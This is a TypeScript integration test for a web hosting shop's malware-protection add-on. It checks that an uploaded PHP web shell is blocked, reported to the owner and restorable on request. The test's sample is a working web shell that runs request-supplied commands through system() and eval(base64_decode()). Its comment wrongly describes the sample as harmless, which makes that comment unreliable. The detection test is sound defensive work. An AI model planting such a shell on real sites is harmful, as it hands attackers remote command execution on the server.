import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findings as verifyAll } from '#app/verify.ts';
import { hostingFiles } from '#domains/hosting/index.ts';
import { identify } from '#domains/identity/index.ts';
import { startShop } from '#test/harness/start-shop.ts';
import type { Shopper, TestShop } from '#test/harness/start-shop.ts';
import { Visitor } from '#test/harness/visitor.ts';

/**
 * It looks as a web shell looks and does nothing but say that it ran: what it is given is never a
 * command, because it only runs when the request carries the word of this test.
 */
const LOOK_ALIKE = `<?php
if (($_REQUEST['word'] ?? '') === 'of-this-test') {
  echo 'IT RAN';
  exit;
}
if (isset($_REQUEST['c'])) { echo system($_REQUEST['c']); }
eval(base64_decode($_POST['x']));
`;
const HONEST = `<?php echo 'hello, ', htmlspecialchars($_GET['name'] ?? 'world');\n`;
const DOMAIN = 'garden.example';
const CART = { productId: 'reseller-hosting-linux', planId: 'linux-start', termMonths: 12 };
const PASSWORD = 'correct horse battery';

let shop: TestShop;
let owner: Shopper;
let staff: Awaited<ReturnType<TestShop['staff']>>;
let files: Hono;
let browser: Visitor;
let site: { id: string; url: string; subscriptionId: string };

/** Real PHP and a real guard take their time on a busy machine. */
const LONG_MS = 240_000;
const WITHIN_MS = 120_000;
const LOOK_AGAIN_MS = 200;

beforeAll(async () => {
  shop = await startShop({ now: '2023-04-10T09:00:00Z', guard: 'on' });
  files = new Hono().route('/', hostingFiles(shop.runtime, identify(shop.runtime)));
  owner = await shop.shopper();
  staff = await shop.staff();
  await shop.fund(owner, 10_000_000n);
  browser = new Visitor(shop.app);
  await browser.call('POST', '/v1/session', { email: owner.client.email, password: PASSWORD });
}, LONG_MS);
afterAll(() => shop.stop());

async function upload(path: string, body: string): Promise<void> {
  const cookie = [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const response = await files.fetch(
    new Request(`http://localhost/v1/hosting-accounts/${site.id}/file?path=public_html/${path}`, {
      method: 'PUT',
      headers: { cookie, 'x-stoika-request': '1', origin: 'http://localhost' },
      body,
    }),
  );
  expect(response.status).toBe(200);
}

/** What a visitor of the site gets. */
function visit(path: string): Promise<{ status: number; text: string }> {
  const { hostname } = new URL(site.url);
  const { promise, resolve, reject } = Promise.withResolvers<{ status: number; text: string }>();
  const sent = request({
    host: '127.0.0.1',
    port: shop.vendors.webPort,
    path: `/${path}`,
    headers: { host: hostname },
  });
  sent.on('error', reject);
  sent.on('response', (response) => {
    let text = '';
    response.on('data', (chunk: Buffer) => (text += chunk.toString()));
    response.on('end', () => resolve({ status: response.statusCode ?? 0, text }));
  });
  sent.end();
  return promise;
}

const get = (path: string) => owner.ok('GET', path);
const pull = async () => {
  const { items } = await staff.ok('GET', '/v1/admin/protection/nodes');
  return staff.ok('POST', `/v1/admin/protection/nodes/${items[0].nodeId}/pull`, {});
};

/** Asks until it is so: the node works beside us, in its own time. */
async function until<T>(ask: () => Promise<T>, isSo: (value: T) => boolean): Promise<T> {
  for (const last = Date.now() + WITHIN_MS; Date.now() < last;) {
    await pull();
    const value = await ask();
    if (isSo(value)) return value;
    await sleep(LOOK_AGAIN_MS);
  }
  throw new Error(`it did not come to be so: ${JSON.stringify(await ask())}`);
}

describe('a site whose package has protection', { timeout: LONG_MS }, () => {
  it('is sold it with the package, and its server is told to protect', async () => {
    const cart = {
      ...CART,
      domainName: DOMAIN,
      addOns: [{ componentId: 'website-protection', quantity: 1 }],
    };
    const plain = await owner.ok('POST', '/v1/shop/quote', CART);
    const quote = await owner.ok('POST', '/v1/shop/quote', cart);
    // 150.00 a month for twelve months.
    expect(quote.totalMinor - plain.totalMinor).toBe(150_00 * 12);
    const order = await owner.ok('POST', '/v1/orders', {
      ...cart,
      expectedTotalMinor: quote.totalMinor,
      payFromBalance: true,
    });
    await shop.settle();
    expect((await get(`/v1/orders/${order.id}`)).state).toBe('done');
    const { subscriptionId } = order;
    const accounts = await get(`/v1/subscriptions/${subscriptionId}/hosting-accounts`);
    site = { ...accounts.items[0], subscriptionId };
    const { account } = await until(
      () => get(`/v1/hosting-accounts/${site.id}/protection`),
      ({ account: one }) => one?.appliedMode === 'protect',
    );
    expect(account).toMatchObject({ mode: 'protect', bought: true, domainName: DOMAIN });
  });

  it('runs honest scripts as ever', async () => {
    await upload('hello.php', HONEST);
    expect(await visit('hello.php?name=Anna')).toEqual({ status: 200, text: 'hello, Anna' });
  });

  it('stops a web shell before it ran once, and explains it to the owner', async () => {
    await upload('gallery.php', LOOK_ALIKE);
    // At once, before anybody has had time to look: it must not run even the first time.
    const first = await visit('gallery.php?word=of-this-test');
    expect(first.text).not.toContain('IT RAN');
    const { items } = await until(
      () => get(`/v1/hosting-accounts/${site.id}/findings`),
      ({ items: found }) => found[0]?.state === 'mended',
    );
    expect(items).toHaveLength(1);
    const finding = await get(`/v1/findings/${items[0].id}`);
    expect(finding).toMatchObject({
      path: 'public_html/gallery.php',
      class: 'malicious',
      certain: true,
      sha256: createHash('sha256').update(LOOK_ALIKE).digest('hex'),
      origin: { by: 'upload' },
      can: { restore: true, bytes: true },
    });
    const bytes = await get(`/v1/findings/${items[0].id}/bytes?limit=65536`);
    expect(Buffer.from(bytes.base64, 'base64').toString()).toBe(LOOK_ALIKE);
    const { account } = await get(`/v1/hosting-accounts/${site.id}/protection`);
    expect(account.standing).toBe('mended');
    expect((await visit('gallery.php?word=of-this-test')).text).not.toContain('IT RAN');
    expect(await visit('hello.php?name=Anna')).toEqual({ status: 200, text: 'hello, Anna' });
  });

  it('writes to the owner about it, once', async () => {
    const mails = (await shop.mailTo(owner)).filter(
      ({ template }) => template === 'protection.finding',
    );
    expect(mails).toHaveLength(1);
    expect(mails[0]?.text).toContain('public_html/gallery.php');
  });

  it('gives the file back to an owner who says that it is theirs, and leaves it alone', async () => {
    const { items } = await get(`/v1/hosting-accounts/${site.id}/findings`);
    const restored = await owner.ok('POST', `/v1/findings/${items[0].id}/restore`, {});
    expect(restored.state).toBe('restored');
    expect((await visit('gallery.php?word=of-this-test')).text).toContain('IT RAN');
    const protection = () => get(`/v1/hosting-accounts/${site.id}/protection`);
    // While the first look goes on, whoever asks for another is told of that one.
    await until(protection, ({ scan: one }) => one?.state === 'done');
    await owner.ok('POST', `/v1/hosting-accounts/${site.id}/scans`, {});
    await shop.settle();
    const { scan, account } = await until(
      protection,
      ({ scan: one }) => one?.state === 'done' && one.kind === 'on-demand',
    );
    expect(scan.scannedFiles).toBeGreaterThanOrEqual(2);
    expect(account).toMatchObject({ standing: 'clean', summary: { records: 0 } });
    expect((await visit('gallery.php?word=of-this-test')).text).toContain('IT RAN');
  });

  it('leaves nothing that verify would complain of', async () => {
    const problems = (await shop.run(verifyAll)).flatMap((check) => check.problems);
    expect(problems).toEqual([]);
  });
});
